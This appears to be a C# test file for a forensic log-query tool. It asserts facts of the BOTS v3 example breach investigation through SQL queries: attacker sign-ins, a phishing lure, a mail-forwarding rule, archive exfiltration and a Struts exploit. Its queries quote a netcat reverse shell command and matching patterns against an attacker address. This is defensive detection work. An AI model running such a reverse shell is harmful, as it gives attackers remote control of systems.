namespace Weir.Cli.Tests.Commands;

/// <summary>Every fact of the example investigation that its data holds, asked of the standard views as an analyst would.</summary>
public sealed class Botsv3FactsTests(Botsv3FactsTests.Landed landed) : IClassFixture<Botsv3FactsTests.Landed>
{
    private const string Odd = "src_ip IN ('104.207.83.63', '199.66.91.253', '157.97.121.132')";

    /// <summary>The example case, landed once.</summary>
    public sealed class Landed : IAsyncLifetime
    {
        internal Bench Bench { get; } = new();

        public async Task InitializeAsync() =>
            (await Bench.WeirAsync(["ingest", .. Directory.GetFiles(System.IO.Path.Combine(ReadmeTests.Root, "examples", "botsv3", "data")).Order(StringComparer.Ordinal)])).Clean();

        public Task DisposeAsync()
        {
            Bench.Dispose();
            return Task.CompletedTask;
        }
    }

    [Theory]
    [InlineData("tries, failures and users of 104.207.83.63", "27,0,2", "SELECT count(*), count(*) FILTER (status = 'failure'), count(DISTINCT user) FROM signins WHERE src_ip = '104.207.83.63'")]
    [InlineData("tries, failures and users of 199.66.91.253", "51,5,2", "SELECT count(*), count(*) FILTER (status = 'failure'), count(DISTINCT user) FROM signins WHERE src_ip = '199.66.91.253'")]
    [InlineData("tries, failures and users of 157.97.121.132", "8,3,2", "SELECT count(*), count(*) FILTER (status = 'failure'), count(DISTINCT user) FROM signins WHERE src_ip = '157.97.121.132'")]
    [InlineData("the four accounts", "bgist@froth.ly|bstoll@froth.ly|fyodor@froth.ly|klagerfield@froth.ly", $"SELECT DISTINCT user FROM signins WHERE {Odd} ORDER BY user")]
    [InlineData("from Hong Kong, by a browser that nobody else has", "104.207.83.63,HK", "SELECT DISTINCT src_ip, country FROM signins WHERE device LIKE '%aBrowswer 3.5%' AND device LIKE 'Windows 7%'")]
    [InlineData("one app of the sign-ins from there", "true", "SELECT bool_or(app = 'Office 365 Exchange Online') FROM signins WHERE src_ip = '104.207.83.63'")]
    [InlineData("the expired password", "klagerfield@froth.ly,2018-08-20T11:43:14.799435Z", "SELECT user, time FROM signins WHERE reason ILIKE '%expired%' AND src_ip = '199.66.91.253'")]
    [InlineData("bgist is locked out", "bgist@froth.ly,157.97.121.132", "SELECT DISTINCT user, src_ip FROM signins WHERE error_code = '50057'")]
    [InlineData("the lure: quarantined, then delivered smaller", "Quarantined,6,true|Delivered,6,false", $"SELECT status, count(*), min(size) > 100000 FROM mails WHERE {Odd} AND subject = 'Draft Financial Plan for Brewery FY2019' AND user = 'bgist@froth.ly' GROUP BY status ORDER BY min(time)")]
    [InlineData("mails to the attacker", "84", "SELECT count(*) FROM mails WHERE recipient = 'hyunki1984@naver.com'")]
    [InlineData("a North Korean browser", "104.207.83.63", "SELECT DISTINCT src_ip FROM audits WHERE user_agent LIKE '%ko-KP%Naenara%'")]
    [InlineData("four lure files", "4,09:57:17,09:57:33", "SELECT count(DISTINCT file_name), strftime(min(time), '%H:%M:%S'), strftime(max(time), '%H:%M:%S') FROM audits WHERE operation = 'FileUploaded' AND src_ip = '104.207.83.63'")]
    [InlineData("the archive leaves", "fyodor@froth.ly,199.66.91.253", "SELECT user, src_ip FROM audits WHERE operation = 'FileDownloaded' AND file_name = 'archive.tar'")]
    [InlineData("the mailbox search", "fyodor@froth.ly,104.207.83.63,10:48:28,ExchangeAdmin,true", "SELECT user, src_ip, strftime(time, '%H:%M:%S'), record_type, contains(detail, 'SOX') FROM audits WHERE operation = 'New-MailboxSearch'")]
    [InlineData("the transport rule, once", "fyodor@froth.ly,11:21:40,true,true", "SELECT user, strftime(time, '%H:%M:%S'), contains(detail, 'SOX'), contains(detail, 'BlindCopyTo=hyunki1984@naver.com') FROM audits WHERE operation = 'New-TransportRule'")]
    [InlineData("the rule stands twice as landed", "2", "SELECT count(*) FROM audit WHERE command = 'New-TransportRule'")]
    [InlineData("a local account, then an administrator", "10:08:17,user created,FYODOR-L,false|10:08:35,added to group,FYODOR-L,true", "SELECT strftime(time, '%H:%M:%S'), action, host, contains(detail, 'group Administrators') FROM timeline WHERE user_key = 'svcvnc' ORDER BY time")]
    [InlineData("tar.exe", "FYODOR-L,11:52:16,NT AUTHORITY\\SYSTEM,true,true,true", "SELECT host, strftime(time, '%H:%M:%S'), user, parent_process LIKE '%powershell.exe', directory = 'C:\\Users\\FyodorMalteskesko\\OneDrive - Frothly\\', command_line LIKE '%tar.exe\" -cvzf archive.tar *' FROM processes WHERE process LIKE '%tar.exe'")]
    [InlineData("the stager's address and its layers", "https://45.77.53.176:443,2,base64>utf16le>base64>utf16le", "SELECT value, count(DISTINCT (source_id, row_id)), string_agg(DISTINCT regexp_replace(layers::VARCHAR, '@[0-9]+\\+[0-9]+', '', 'g')) FROM weir.ioc_hits WHERE type = 'url' AND layers IS NOT NULL GROUP BY value")]
    [InlineData("whoami over Struts", "11:05:43,192.168.8.103,192.168.9.30,8080,python-requests/2.18.4", "SELECT strftime(time, '%H:%M:%S'), src_ip, dest_ip, dest_port, user_agent FROM web WHERE method = 'POST' AND url LIKE '%saveGangster.action' AND form_data LIKE '%#cmd=''whoami''%'")]
    [InlineData("the reverse shell over Struts", "11:13:56|11:34:00", "SELECT strftime(time, '%H:%M:%S') FROM web WHERE method = 'POST' AND form_data LIKE '%/bin/sh 0</tmp/backpipe | nc 45.77.53.176 8088 1>/tmp/backpipe%' ORDER BY time")]
    [InlineData("the tool's download", "10:47:05.742,192.168.70.186,45.77.53.176,3333", "SELECT strftime(time, '%H:%M:%S.%g'), src_ip, dest_ip, dest_port FROM web WHERE url LIKE '%logos.png'")]
    [InlineData("nc runs on hoth", "11:34:49,/bin/nc.traditional,17211,process added", "SELECT strftime(time, '%H:%M:%S'), process, pid, action FROM processes WHERE host = 'hoth' AND command_line LIKE '%nc\" \"45.77.53.176\" \"8088\"%'")]
    [InlineData("the account tomcat7", "hoth,/usr/sbin/useradd", "SELECT host, process FROM processes WHERE command_line LIKE '%tomcat7%'")]
    [InlineData("the listener", "pid 14356 port 1337", "SELECT detail FROM timeline WHERE host = 'hoth' AND log = 'osquery' AND detail LIKE '%port 1337%'")]
    public async Task Views_GiveTheFact(string fact, string expected, string question)
    {
        string given = (await landed.Bench.AskAsync(question)).Replace("\"", "", StringComparison.Ordinal);
        Assert.True(expected == given, $"{fact}: expected '{expected}', got '{given}'");
    }

    [Fact]
    public async Task Inventory_HasEachHost()
    {
        string[] hosts =
        [
            "ABUNGST-L", "BGIST-L", "BSTOLL-L", "BTUN-L", "FYODOR-L", "JWORTOS-L", "MKRAEUS-L", "PCERF-L", "SEPM", "FROTHLY-FW1", "gacrux.i-06fea586f3d3c8ce8", "gacrux.i-0920036c8ca91e501",
            "gacrux.i-09cbc261e84259b54", "gacrux.i-0cc93bade2b3cba63", "mars.i-08e52f8b5a034012d", "hoth", "matar", "ntesla", "serverless", "splunk.froth.ly", "splunkhwf.froth.ly",
            "ip-172-16-0-109.ec2.internal", "ip-172-16-0-127", "ip-172-16-0-13", "ip-172-16-0-145", "ip-172-16-0-178", "ip-172-31-12-76", "ip-172-31-36-235", "console.us.code42.com:443",
            "OD-FM-NA-i-0ad2d665d4bdace22.amazonaws.com",
        ];
        string csv = (await landed.Bench.WeirAsync("inventory", "--by", "host", "--format", "csv", "--quiet")).Clean().Out;
        Assert.Equal(hosts.Order(StringComparer.Ordinal), csv.TrimEnd('\n').Split('\n').Skip(1).Select(l => l.Split(',')[1]).Distinct().Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task Stack_PutsTheThreeAddressesFirst()
    {
        string csv = (await landed.Bench.WeirAsync("stack", "signins", "--by", "src_ip", "--format", "csv", "--quiet")).Clean().Out;
        Assert.Equal(["104.207.83.63", "157.97.121.132", "199.66.91.253"], csv.Split('\n').Skip(1).Take(3).Select(l => l.Split(',')[0]).Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task Find_CountsEventsByHost()
    {
        string csv = (await landed.Bench.WeirAsync("find", "45.77.53.176", "--rows", "--format", "csv", "--quiet")).Clean().Out;
        var counts = csv.TrimEnd('\n').Split('\n').Skip(1).GroupBy(l => l.Split(',')[1]).ToDictionary(g => g.Key, g => (All: g.Count(), Decoded: g.Count(l => l.Contains(",true,", StringComparison.Ordinal))));
        Assert.Equal((3852, 2), counts["FYODOR-L"]); // 3,850 say it in plain text
        Assert.Equal((1070, 0), counts["ABUNGST-L"]);
        Assert.Equal(["ABUNGST-L", "FYODOR-L", "SEPM", "hoth", "matar", "splunkhwf.froth.ly"], counts.Keys.Order(StringComparer.Ordinal));
    }
}
